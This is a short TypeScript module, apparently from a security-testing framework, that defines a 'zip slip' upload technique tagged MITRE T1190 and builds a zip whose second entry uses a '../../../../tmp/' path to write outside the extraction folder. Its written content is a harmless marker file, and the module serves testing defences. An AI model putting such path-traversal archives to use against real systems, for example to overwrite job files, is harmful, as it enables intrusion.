import { archive } from '../../../archive.ts';
import { upload } from '../../../upload.ts';

/** An archive whose entry climbs out of the folder it is unpacked in. */
export const technique = upload({
  id: 'initial-access.zip-slip-upload',
  title: 'Upload an archive that unpacks outside its folder',
  purpose:
    'Whatever unpacks it carelessly writes where the attacker wants, for example over a job file.',
  mitre: ['T1190'],
  sources: [
    {
      title: 'Zip Slip Vulnerability, Snyk',
      url: 'https://security.snyk.io/research/zip-slip-vulnerability',
    },
    {
      title: 'Exploit Public-Facing Application, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1190/',
    },
  ],
  contentType: 'application/zip',
  payload: () => {
    const text = new TextEncoder();
    return archive({
      'theme/style.css': text.encode('body { color: black; }\n'),
      '../../../../tmp/aftertrace-was-here': text.encode('inert\n'),
    });
  },
});
